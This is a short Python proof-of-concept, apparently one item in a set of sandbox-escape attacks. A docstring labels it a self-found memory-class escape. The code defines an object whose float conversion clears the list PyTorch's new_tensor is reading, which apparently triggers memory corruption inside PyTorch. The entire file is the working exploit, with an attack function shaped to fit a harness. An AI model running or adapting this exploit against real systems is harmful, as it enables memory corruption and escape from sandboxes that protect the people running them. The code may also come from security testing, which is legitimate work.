"""Class: memory. Source: own find. Escape: the same, by a tensor's new_tensor."""

import torch


class Item:
    def __float__(self):
        data.clear()
        return 0.0


data = [Item()] + [1.0] * 5_000_000


def attack(model, tokenizer, address):
    torch.zeros(1, dtype=torch.float64).new_tensor(data)
